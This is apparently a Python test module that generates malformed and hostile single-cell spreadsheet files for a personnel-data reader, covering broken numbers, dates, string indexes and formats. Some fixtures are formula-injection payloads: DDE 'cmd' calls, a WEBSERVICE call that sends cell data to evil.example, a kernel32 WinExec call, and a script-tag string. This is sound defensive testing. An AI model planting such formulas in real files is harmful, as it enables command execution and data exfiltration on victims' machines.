"""Single cells: texts, shared strings, numbers, dates, formulas that no officer types but some file holds."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.material import (
    COUNTS,
    STRINGS,
    STYLES,
    WORKBOOK,
    Hostile,
    changed,
    sheet_part,
    swap,
    with_cell,
)

_BROKEN = "V-11.broken"
_NUMBERS = {
    "negative": b"-1", "zero": b"0", "leap-day-of-1900": b"60", "before-it": b"59", "time-only": b"0.5",
    "beyond-9999": b"2958466", "last-day": b"2958465", "huge": b"1e308", "infinite": b"1e400", "inf": b"INF",
    "nan": b"NaN", "minus-zero": b"-0", "tiny": b"5e-324", "hex": b"0x7A69", "blank": b" ", "empty": b"",
    "comma": b"31292,5", "grouped": b"31.292.000", "letters": b"abc", "other-digits": "३१२९२".encode(),
    "5000-digits": b"9" * 5000, "5000-decimals": b"1." + b"3" * 5000, "plus": b"+31292", "underscore": b"31_292",
    "spaces": b"  31292  ", "date-text": b"2026-02-30", "iso": b"1985-09-02", "exponent-without-end": b"1e",
    "panics": b"-1e12",
}  # fmt: skip
#: What a broken number is to the reader: the whole file then, since no cell of it can be trusted.
_UNREADABLE = {("panics", "date")}


def _numbers() -> Iterator[Hostile]:
    for word, value in _NUMBERS.items():
        for kind, cell in (("date", "D5"), ("number", "N5")):
            expected = _BROKEN if (word, kind) in _UNREADABLE else COUNTS
            content = with_cell("NHAN_SU", cell, b"><v>" + value + b"</v></c>")
            yield Hostile(f"number-{word}-as-{kind}.xlsx", content, expected)
    iso = {
        "good": (b"1985-09-02T00:00:00", COUNTS),
        "leap-day": (b"1900-02-29", COUNTS),
        "month-13": (b"1985-13-02", COUNTS),
        "year-0": (b"0000-01-01", COUNTS),
        "year-99999": (b"99999-01-01", COUNTS),
        "zone": (b"1985-09-02T00:00:00+25:00", COUNTS),
        "text": (b"mai", COUNTS),
    }
    for word, (value, expected) in iso.items():
        content = with_cell("NHAN_SU", "D5", b' t="d"><v>' + value + b"</v></c>")
        yield Hostile(f"date-iso-{word}.xlsx", content, expected)
    for word, text in (
        ("leap-day-of-1900", b"29/02/1900"),
        ("month-13", b"02/13/1985"),
        ("backwards", b"1985.09.02"),
        ("full-width", "０２/０９/１９８５".encode()),
        ("with-marks", "\u200e02\u200e/09/1985".encode()),
        ("year-10000", b"01/01/10000"),
    ):
        content = with_cell("NHAN_SU", "D5", b' t="inlineStr"><is><t>' + text + b"</t></is></c>")
        yield Hostile(f"date-text-{word}.xlsx", content, COUNTS)
    system = swap(b"<workbookPr ", b'<workbookPr date1904="1" ')
    yield Hostile("date-system-1904.xlsx", changed({WORKBOOK: system}), f"{COUNTS} V-09.outside")
    lie = swap(b"<workbookPr ", b'<workbookPr date1904="co" ')
    yield Hostile("date-system-nonsense.xlsx", changed({WORKBOOK: lie}), COUNTS)


_TEXTS = {
    "formula": b"=1+1",
    "formula-command": b"=cmd|' /C calc'!A0",
    "formula-web": b"=WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)",
    "formula-plus": b"+1+1",
    "formula-minus": b"-1+cmd|' /C calc'!A0",
    "formula-at": b"@SUM(1+1)",
    "formula-tab": b"&#9;=1+1",
    "formula-return": b"&#13;=1+1",
    "formula-full-width": "＝1+1".encode(),
    "markup": b"&lt;script&gt;alert(1)&lt;/script&gt;",
    "template": b"{{ 7*7 }}{% for a in b %}",
    "format": b"{0}{trang}%s%n%(a)s",
    "nul-in-excels-words": b"a_x0000_b",
    "control-in-excels-words": b"a_x0007_b_x001B_[31m",
    "terminal": b"a_x001b_]0;x_x0007_",
    "right-to-left": "Lò \u202eAn".encode(),
    "zero-width": "L\u200bò\u200d Gi\ufeffả".encode(),
    "marks-500": ("a" + "\u0301" * 500).encode(),
    "astral": "𝓛ò 🏅".encode(),
    "replacement": "\ufffd".encode(),
    "long": b"x" * 40_000,
    "very-long": b"x" * 3_000_000,
    "lines": b"a&#10;" * 20_000,
    "blank": "\u00a0\u200b\u3000".encode(),
    "tab": b"Lo&#9;Gia",
}


def _texts() -> Iterator[Hostile]:
    for word, text in _TEXTS.items():
        for name, cell in (("name", "C5"), ("list", "E5")):
            if name == "list" and len(text) > 30_000:
                continue
            inner = b' t="inlineStr"><is><t xml:space="preserve">' + text + b"</t></is></c>"
            yield Hostile(f"text-{word}-in-{name}.xlsx", with_cell("NHAN_SU", cell, inner), COUNTS)


def _strings() -> Iterator[Hostile]:
    for word, index, expected in (
        ("beyond", b"99999999", _BROKEN),
        ("negative", b"-1", _BROKEN),
        ("text", b"abc", _BROKEN),
        ("empty", b"", f"{COUNTS} V-02.required"),
        ("fraction", b"1.5", _BROKEN),
        ("20-digits", b"9" * 20, _BROKEN),
        ("5000-digits", b"9" * 5000, _BROKEN),
    ):
        content = with_cell("NHAN_SU", "C5", b' t="s"><v>' + index + b"</v></c>")
        yield Hostile(f"string-index-{word}.xlsx", content, expected)
    more = {
        "count-lies": (swap(b"<sst ", b'<sst count="1" uniqueCount="99999999" '), _BROKEN),
        "emptied": (lambda d: d[: d.index(b"<si>")] + b"</sst>", _BROKEN),
        "halved": (lambda d: d[: d.index(b"<si>", len(d) // 2)] + b"</sst>", _BROKEN),
        "rich": (swap(b"<si>", b"<si><r><t>a</t></r><r><rPr><b/></rPr><t>b</t></r></si><si>"), COUNTS),
        "phonetic": (lambda d: d.replace(b"</t></si>", b"</t><rPh><t>x</t></rPh></si>"), COUNTS),
        "nested": (swap(b"<si><t>", b"<si><si><t>"), COUNTS),
    }
    for word, (change, expected) in more.items():
        yield Hostile(f"strings-{word}.xlsx", changed({STRINGS: change}), expected)
    long = b"<si><t>" + b"x" * 1_000_000 + b"</t></si></sst>"
    used = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%c%d" t="s"><v>%d</v></c>' % (c, r, 5000) for c in b"ABCDE")
                    + b"</row>" for r in range(300, 500))  # fmt: skip
    padding = b"<si><t>x</t></si>" * 5000
    content = changed({
        STRINGS: lambda d: d[: d.index(b"<si>")] + padding + long,
        sheet_part("BIEN_DONG"): swap(b"</sheetData>", used + b"</sheetData>"),
    })  # fmt: skip
    yield Hostile("strings-one-huge-in-1000-cells.xlsx", content, "V-14.repeated_text")


def _kinds() -> Iterator[Hostile]:
    for word, inner, expected in (
        ("error", b' t="e"><v>#REF!</v></c>', f"{COUNTS} V-15.error"),
        ("error-new", b' t="e"><v>#SPILL!</v></c>', f"{COUNTS} V-15.error"),
        ("error-nonsense", b' t="e"><v>khong</v></c>', f"{COUNTS} V-15.error"),
        ("error-without-text", b' t="e"></c>', COUNTS),
        ("uncached", b"><f>1+1</f></c>", f"{COUNTS} V-15.uncached"),
        ("uncached-web", b'><f>WEBSERVICE("http://evil.example")</f></c>', f"{COUNTS} V-15.uncached"),
        ("cached", b' t="str"><f>CALL("kernel32","WinExec","JC","calc")</f><v>An</v></c>', COUNTS),
        ("array", b' t="str"><f t="array" ref="C5:C9">A1:A5</f><v>An</v></c>', COUNTS),
        ("shared-without-first", b'><f t="shared" si="7"/></c>', f"{COUNTS} V-15.uncached"),
        ("data-table", b'><f t="dataTable" ref="C5:C9" dt2D="1"/><v>1</v></c>', COUNTS),
        ("bool", b' t="b"><v>1</v></c>', COUNTS),
        ("bool-nonsense", b' t="b"><v>co</v></c>', _BROKEN),
        ("kind-unknown", b' t="khong"><v>1</v></c>', _BROKEN),
        ("two-values", b"><v>1</v><v>2</v></c>", COUNTS),
        ("nested-cell", b'><c r="C5"><v>1</v></c></c>', _BROKEN),
        ("style-beyond", b'><v>1</v></c><c r="C5" s="99999"><v>2</v></c>', COUNTS),
    ):
        yield Hostile(f"cell-{word}.xlsx", with_cell("NHAN_SU", "C5", inner), expected)
    huge = with_cell("NHAN_SU", "C5", b"><f>" + b"+".join([b"1"] * 500_000) + b"</f></c>")
    yield Hostile("cell-formula-of-1-mb.xlsx", huge, f"{COUNTS} V-15.uncached")


def _formats() -> Iterator[Hostile]:
    for word, code in (
        ("date-of-nonsense", b"yyyy&quot;"),
        ("very-long", b"0" * 200_000),
        ("sections", b";" * 5000),
        ("brackets", b"[" * 5000),
        ("brackets-closed", b"[h]" * 5000),
        ("calendar", b"[$-130000]d/m/yyyy"),
        ("empty", b""),
        ("elapsed", b"[h]:mm:ss"),
    ):
        change = changed({STYLES: lambda d, c=code: d.replace(b'formatCode="dd/mm/yyyy"', b'formatCode="' + c + b'"')})
        yield Hostile(f"format-{word}.xlsx", change, COUNTS)


def files() -> Iterator[Hostile]:
    """All of this module."""
    for family in (_numbers, _texts, _strings, _kinds, _formats):
        yield from family()
